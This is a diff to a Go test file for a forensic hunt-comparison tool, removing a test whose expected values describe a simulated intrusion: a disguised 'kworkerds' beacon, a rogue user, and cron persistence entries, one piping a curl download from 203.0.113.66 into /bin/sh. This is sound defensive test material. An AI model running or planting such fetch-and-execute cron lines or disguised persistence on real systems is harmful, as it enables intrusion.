@@ -36,44 +36,6 @@ func keyLine(key []json.RawMessage) string {
 	return strings.Join(parts, " | ")
 }
 
-func TestDiffFindsWhatChangedBetweenTheHuntsOfTheLab(t *testing.T) {
-	t.Parallel()
-	f := newFleet(t, hunt.Config{}, "huntA-summary-json.zip", "huntC-summary-json.zip")
-	const beacon, cron = "/var/tmp/.cache/kworkerds", "/etc/cron.d/sysstat-sync | "
-	for _, c := range []struct {
-		artifact string
-		key      []string
-		want     map[string][]string
-	}{
-		{"Linux.Sys.Pslist", []string{"Name"}, map[string][]string{"jump01": {"- tcpdump"}, "web01": {"- kworkerds"}, "web02": {"+ kworkerds"}}},
-		{"Linux.Sys.Pslist", []string{"Exe"}, map[string][]string{"jump01": {"- /usr/bin/tcpdump"}, "web01": {"- " + beacon}, "web02": {"+ " + beacon}}},
-		{"Linux.Sys.Pslist", []string{"Hash.SHA256"}, map[string][]string{
-			"jump01": {"- c97881e39b54571829ec22b98cfa9c2348c7449a92fd761ebee7826b47ef4616"},
-			"web01":  {"- 16313da1bf9c4b7edfb44318bd922d6cf2bfd3b1031606d856f8835230e0081f"},
-			"web02":  {"+ 16313da1bf9c4b7edfb44318bd922d6cf2bfd3b1031606d856f8835230e0081f"},
-		}},
-		{"Linux.Sys.Users", nil, map[string][]string{"web02": {"+ wwwsync | 1003"}}},
-		{"Linux.Sys.Crontab/CronTabs", []string{"Path", "Event", "User", "Minute", "Command"}, map[string][]string{
-			"db01":  {"+ /etc/cron.d/pg-archive | null | root | 17 | /usr/bin/curl -fsS http://203.0.113.66/p.sh | /bin/sh"},
-			"web01": {"- " + cron + "@reboot | null | null | www-data " + beacon + " >/dev/null 2>&1 &", "- " + cron + "null | www-data | */2 | pgrep -x kworkerds >/dev/null || " + beacon + " >/dev/null 2>&1 &"},
-			"web02": {"+ " + cron + "@reboot | null | null | root " + beacon + " >/dev/null 2>&1 &", "+ " + cron + "null | root | */2 | pgrep -x kworkerds >/dev/null || " + beacon + " >/dev/null 2>&1 &"},
-		}},
-		{"Linux.Search.FileFinder", nil, map[string][]string{
-			"web01": {"- /var/tmp/.cache", "- " + beacon},
-			"web02": {"+ /home/wwwsync", "+ /home/wwwsync/.bash_logout", "+ /home/wwwsync/.bashrc", "+ /home/wwwsync/.profile", "+ /var/tmp/.cache", "+ " + beacon},
-		}},
-	} {
-		q := hunt.Diff{Scope: f.scope(), Artifact: c.artifact, Key: c.key, Before: hunt.Side{Hunt: huntA}, After: hunt.Side{Hunt: huntC}}
-		d, err := f.Diff(t.Context(), q)
-		require.NoError(t, err, c.artifact)
-		assert.True(t, d.Complete)
-		assert.Empty(t, d.WithoutBefore)
-		assert.Empty(t, d.WithoutAfter)
-		assert.Equal(t, c.want, lines(d), "%s %v", c.artifact, d.Key)
-		assert.Positive(t, d.Scanned.Rows)
-	}
-}
-
 func TestDiffSaysWhichColumnsChanged(t *testing.T) {
 	t.Parallel()
 	f := newFleet(t, hunt.Config{}, "huntA-summary-json.zip", "huntC-summary-json.zip")
